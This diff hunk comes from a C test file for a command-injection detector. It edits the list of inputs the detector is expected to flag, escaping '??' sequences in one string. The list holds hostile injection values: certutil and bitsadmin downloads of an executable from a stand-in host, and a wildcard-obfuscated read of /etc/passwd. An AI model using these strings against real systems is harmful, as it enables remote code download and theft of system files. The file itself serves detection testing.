@@ -148,7 +148,7 @@ WSG_TEST(cmdi_positives)
 		"test | powershell -c get-process", "x | net localgroup administrators",
 		"certutil -urlcache -split -f http://x/a.exe a.exe",
 		"bitsadmin /transfer job http://x/a.exe c:\\a.exe", "{,ifconfig,eth0}",
-		"{,cd,/etc,}", "{,$\"whoami\",}", "{,/?s?/?i?/c?t,/e??/p??s??,}", "\\ls", NULL,
+		"{,cd,/etc,}", "{,$\"whoami\",}", "{,/?s?/?i?/c?t,/e?\?/p?\?s?\?,}", "\\ls", NULL,
 	};
 
 	for (int i = 0; pos[i]; i++)
